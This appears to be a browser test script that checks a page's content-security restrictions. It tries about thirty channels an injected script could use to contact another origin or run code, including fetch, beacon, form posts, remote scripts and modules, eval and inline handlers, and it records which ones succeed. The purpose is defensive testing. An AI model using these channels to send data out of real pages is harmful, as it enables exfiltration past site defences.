// What an attacker would try with a script in the page. `window.ran` lists the attempts whose code ran.
window.ran = [];
window.attack = async (other) => {
  const code = (name) => `window.ran.push("${name}")`;
  const add = (name, fields) => {
    const element = document.createElement(name);
    document.body.append(element);
    return Object.assign(element, fields);
  };
  const address = (type, text) => URL.createObjectURL(new Blob([text], { type }));
  const attempts = {
    fetch: () => fetch(`${other}fetch`),
    request: () => {
      const request = new XMLHttpRequest();
      request.open("POST", `${other}request`);
      request.send("everything");
    },
    beacon: () => navigator.sendBeacon(`${other}beacon`, "everything"),
    socket: () => new WebSocket(`${other.replace("http", "ws")}socket`),
    events: () => new EventSource(`${other}events`),
    image: () => add("img", { src: `${other}image` }),
    video: () => add("video", { src: `${other}video` }),
    sheet: () => add("link", { rel: "stylesheet", href: `${other}sheet.css` }),
    font: () => document.fonts.add(new FontFace("attack", `url(${other}font)`)) && document.fonts.load("1em attack"),
    frame: () => add("iframe", { src: `${other}frame` }),
    frameOfText: () => add("iframe", { srcdoc: `<script>parent.${code("frameOfText")}<\/script>` }),
    object: () => add("object", { data: `${other}object` }),
    embed: () => add("embed", { src: `${other}embed` }),
    base: () => document.head.append(Object.assign(document.createElement("base"), { href: other })),
    form: () => add("form", { action: `${other}form`, method: "post" }).submit(),
    script: () => add("script", { src: `${other}script.js` }),
    scriptOfText: () => add("script").append(code("scriptOfText")),
    scriptOfData: () => add("script", { src: `data:text/javascript,${code("scriptOfData")}` }),
    scriptOfBlob: () => add("script", { src: address("text/javascript", code("scriptOfBlob")) }),
    module: () => import(`${other}module.js`),
    moduleOfBlob: () => import(address("text/javascript", code("moduleOfBlob"))),
    worker: () => new Worker(address("text/javascript", `fetch("${other}worker")`)),
    eval: () => (0, eval)(code("eval")),
    function: () => new Function(code("function"))(),
    timer: () => setTimeout(code("timer")),
    handler: () => {
      const element = add("i");
      element.setAttribute("onclick", code("handler"));
      element.click();
    },
    link: () => add("a", { href: `javascript:${code("link")}` }).click(),
    markup: () => (add("i").innerHTML = `<img src="${other}markup" onerror='${code("markup")}'>`),
    style: () => add("style").append("body { --attack: style }"),
    styleAttribute: () => document.body.setAttribute("style", "--attack: attribute"),
  };
  for (const attempt of Object.values(attempts)) {
    // Not awaited, since some never end.
    try { Promise.resolve(attempt()).catch(() => {}); } catch { /* Refused, as expected. */ }
  }
};
